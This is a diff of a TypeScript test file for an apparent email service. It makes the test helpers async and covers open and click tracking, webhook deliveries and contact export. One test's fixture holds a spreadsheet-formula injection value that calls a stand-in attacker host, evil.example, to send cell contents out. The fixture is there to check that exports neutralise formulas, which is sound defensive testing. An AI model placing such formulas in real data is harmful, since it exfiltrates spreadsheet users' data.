@@ -22,7 +22,7 @@ const log: Logger = {
   warn() {},
   error() {},
 }
-const t = createTestApp({ log })
+const t = await createTestApp({ log })
 startTestSender(t)
 const imports = createImportWorker(t.ctx)
 const port = freePort()
@@ -48,8 +48,8 @@ const hit = (method: string, path: string, init: { ua?: string; body?: string } 
     body: init.body,
   })
 
-const clientId = t.client('Acme')
-const key = t.key({ scopes: ['admin:*'], clientId })
+const clientId = await t.client('Acme')
+const key = await t.key({ scopes: ['admin:*'], clientId })
 const get = async (path: string) => (await t.call('GET', path, { key })).body.data
 const post = async (path: string, body?: unknown) => {
   const r = await t.call('POST', path, { key, body })
@@ -82,17 +82,18 @@ async function sentMessage(email: string) {
   }
 }
 
-const eventsOf = (messageId: string, type: string) =>
-  t.ctx.sqlite
-    .query('SELECT data FROM events WHERE message_id = ? AND type = ? ORDER BY rowid')
-    .all(messageId, type)
-    .map((r) => JSON.parse((r as { data: string }).data))
-
-const deliveriesOf = (webhookId: string, type: string) =>
+const eventsOf = async (messageId: string, type: string) =>
   (
-    t.ctx.sqlite
+    await t.ctx.sqlite
+      .query('SELECT data FROM events WHERE message_id = ? AND type = ? ORDER BY rowid')
+      .all(messageId, type)
+  ).map((r) => JSON.parse((r as { data: string }).data))
+
+const deliveriesOf = async (webhookId: string, type: string) =>
+  (
+    (await t.ctx.sqlite
       .query('SELECT count(*) AS n FROM webhook_deliveries WHERE webhook_id = ? AND event_type = ?')
-      .get(webhookId, type) as { n: number }
+      .get(webhookId, type)) as { n: number }
   ).n
 
 describe('public pages and links', () => {
@@ -126,12 +127,12 @@ describe('public pages and links', () => {
       expect(r.headers.get('location')).toBe(url)
     }
 
-    const opened = eventsOf(s.message.id, 'email.opened')
+    const opened = await eventsOf(s.message.id, 'email.opened')
     // One machine open and one reader's open: the first of each.
     expect(opened.map((e) => e.machine)).toEqual([true, false])
     expect(opened[1].user_agent).toHaveLength(512)
     expect(longUa.startsWith(opened[1].user_agent)).toBe(true)
-    const clicked = eventsOf(s.message.id, 'email.clicked')
+    const clicked = await eventsOf(s.message.id, 'email.clicked')
     expect(clicked.length).toBeLessThanOrEqual(10)
     // The first click of each link, in order, until the bound.
     expect(clicked[0].url).toBe('https://shop.example/deal')
@@ -149,16 +150,16 @@ describe('public pages and links', () => {
       clicked: 1,
     })
     // Webhook deliveries follow the events: as bounded.
-    while (fanOut(t.ctx).more) {}
-    expect(deliveriesOf(hook.id, 'email.opened')).toBe(2)
-    expect(deliveriesOf(hook.id, 'email.clicked')).toBe(clicked.length)
+    while ((await fanOut(t.ctx)).more) {}
+    expect(await deliveriesOf(hook.id, 'email.opened')).toBe(2)
+    expect(await deliveriesOf(hook.id, 'email.clicked')).toBe(clicked.length)
   })
 
   test('14. the contact export prefixes formula cells with a quote; ?raw=true gives them as stored; an exported phone imports back', async () => {
-    const acme = t.client('Export Co')
-    const other = t.client('Import Co')
-    const k = t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: acme })
-    const otherKey = t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: other })
+    const acme = await t.client('Export Co')
+    const other = await t.client('Import Co')
+    const k = await t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: acme })
+    const otherKey = await t.key({ scopes: ['contacts:read', 'contacts:write'], clientId: other })
     const hostile = {
       email: 'eve@example.com',
       first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
